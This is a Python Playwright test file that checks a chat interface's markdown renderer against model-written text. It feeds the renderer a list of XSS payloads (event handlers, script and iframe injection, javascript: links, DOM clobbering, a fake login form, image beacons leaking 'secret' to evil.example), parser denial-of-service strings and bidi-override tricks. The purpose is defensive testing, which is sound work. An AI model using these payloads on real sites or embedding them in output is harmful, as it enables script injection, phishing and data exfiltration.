"""What a model writes can do nothing to whoever reads it: the corpus of group 32, drawn by the page itself."""

import pytest
from playwright.sync_api import Page, expect

pytestmark = pytest.mark.slow

HOSTILE = {
    "handler": '<img src=x onerror="window.hit=1">',
    "script": "<script>window.hit=1</script>",
    "end of script": "</script><script>window.hit=1</script>",
    "svg": '<svg onload="window.hit=1"><animate onbegin="window.hit=1" attributeName=x dur=1s></svg>',
    "math": '<math><mtext><style><img src=x onerror="window.hit=1"></style></mtext></math>',
    "frame": '<iframe srcdoc="<script>parent.hit=1</script>"></iframe><object data="javascript:hit=1"></object>',
    "beacon": "![x](https://evil.example/?q=secret) ![y](//evil.example/y.png)",
    "beacon by reference": "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "javascript link": "[x](javascript:window.hit=1) [y](JaVaScRiPt&colon;hit) [z](&#106;avascript:hit=1)",
    "data link": "[x](data:text/html,<script>hit=1</script>) [y](vbscript:x) <javascript:alert(1)>",
    "attribute": '[x](https://ok.example "t\\" onmouseover=window.hit=1 x=\\"")',
    "style": '<p style="position:fixed;inset:0">x</p><style>*{display:none}</style><link rel=stylesheet href=//e.ex>',
    "form": '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    "code language": '```"><img src=x onerror=window.hit=1>\ncode\n```',
    "formula": "$\\href{javascript:window.hit=1}{x}$ and $\\htmlData{x=y}{z}$ and $\\includegraphics{//evil.example}$",
    "ansi": "\u001b[31mred\u001b[0m \u0007",
    "clobbering": '<a id="app"></a><form id="location"></form><img name="cookie">',
    "entities": "&lt;img src=x onerror=hit=1&gt; &#60;script&#62;hit=1&#60;/script&#62;",
}

HEAVY = {
    "line of 1 MB": "a" * 1_000_000,
    "words of 1 MB": "ab " * 333_000,
    "10,000 lists in a line": "- " * 10_000 + "x",
    "10,000 quotes in a line": ">" * 10_000 + "x",
    "10,000 lists by indentation": "\n".join(" " * (2 * level) + "- x" for level in range(2000)),
    "brackets": "[" * 15_000,
    "emphasis": "*a **a " * 2_500,
    "emphasis by lines": "*a **a _b\n" * 5_000,
    "links": "[a](" * 4_000,
    "backticks": "".join("`" * n + "a" for n in range(150)),
    "dollars": "$a " * 6_000,
    "table of 2,000 rows": "|a|b|\n|-|-|\n" + "|x|y|\n" * 2_000,
    "table of 5,000 columns": "|a" * 5_000 + "|\n" + "|-" * 5_000 + "|",
    "angle brackets": "<a " * 6_000,
    "exclamations": "![" * 9_000,
}

DRAW = """async (text) => {
    const old = document.getElementById("probe");
    if (old) old.remove();
    const prose = document.createElement("clear-prose");
    prose.id = "probe";
    document.querySelector("main").append(prose);
    const began = performance.now();
    prose.text = text;
    const took = performance.now() - began;
    await new Promise((done) => setTimeout(done, 30));
    const nodes = [...prose.querySelectorAll("*")];
    return {
        took,
        tags: [...new Set(nodes.map((node) => node.localName))],
        handlers: nodes
            .flatMap((node) => [...node.attributes].map((one) => one.name))
            .filter((name) => name.startsWith("on")),
        ids: nodes.filter((node) => node.id || node.getAttribute("name")).length,
        styled: nodes.filter((node) => node.hasAttribute("style") && !node.closest(".katex")).length,
        links: [...prose.querySelectorAll("a")].map((link) => [link.getAttribute("href"), link.rel, link.target]),
        text: prose.textContent.slice(0, 2000),
        hit: window.hit ?? null,
    };
}"""
FORBIDDEN = {
    "img",
    "script",
    "iframe",
    "object",
    "embed",
    "form",
    "style",
    "link",
    "base",
    "meta",
    "audio",
    "video",
}


def ready(page: Page) -> Page:
    expect(page.get_by_role("textbox", name="Message")).to_be_visible()
    return page


def test_nothing_that_a_model_writes_runs_or_reaches_out(open_page, served) -> None:
    page = ready(open_page())
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for name, text in HOSTILE.items():
        drawn = page.evaluate(DRAW, text)
        assert drawn["hit"] is None, name
        assert not FORBIDDEN & set(drawn["tags"]), name
        assert not drawn["handlers"], name
        assert not drawn["ids"], name
        assert not drawn["styled"], name
        for href, rel, target in drawn["links"]:
            assert href is None or href.startswith(("https://", "http://", "mailto:")), name
            assert href is None or ("noopener" in rel and "noreferrer" in rel and target == "_blank"), name
        assert "\u001b" not in drawn["text"], name
    page.wait_for_timeout(500)
    assert all(url.startswith((served.url, "blob:")) for url in asked), asked
    assert page.evaluate("window.hit ?? null") is None


def test_html_is_shown_as_text_so_that_nothing_said_is_hidden(open_page) -> None:
    page = ready(open_page())
    assert "<b>bold</b>" in page.evaluate(DRAW, "See <b>bold</b> and <!-- this -->.")["text"]
    assert "<!-- this -->" in page.evaluate(DRAW, "See <b>bold</b> and <!-- this -->.")["text"]
    assert (
        "[Picture not loaded: a cat]" in page.evaluate(DRAW, "![a cat](https://evil.example/cat.png)")["text"]
    )


def test_text_that_turns_around_stays_in_its_place(open_page) -> None:
    page = ready(open_page())
    drawn = page.evaluate(DRAW, "if \u202e(admin) \u202d return; `\u202egnp.exe`")
    assert "\u202e" not in drawn["text"] and "\u202d" not in drawn["text"]
    page.evaluate(DRAW, "مرحبا بالعالم\n\nHello")
    directions = page.locator("#probe p").evaluate_all(
        "all => all.map(one => getComputedStyle(one).direction)"
    )
    assert directions == ["rtl", "ltr"]


def test_heavy_texts_do_not_stop_the_page(open_page) -> None:
    page = ready(open_page())
    slow = {
        name: round(took)
        for name, text in HEAVY.items()
        if (took := page.evaluate(DRAW, text)["took"]) > 3000
    }
    assert not slow, f"milliseconds: {slow}"


def test_growing_answer_is_not_drawn_anew_where_it_did_not_change(open_page) -> None:
    page = ready(open_page())
    page.evaluate(DRAW, "first\n\nsecond")
    same = page.evaluate(
        """async () => {
            const prose = document.getElementById("probe");
            const first = prose.querySelector("p");
            prose.text += " and more\\n\\nthird";
            await new Promise((done) => setTimeout(done, 100));
            return first === prose.querySelector("p") && prose.querySelectorAll("p").length === 3;
        }"""
    )
    assert same
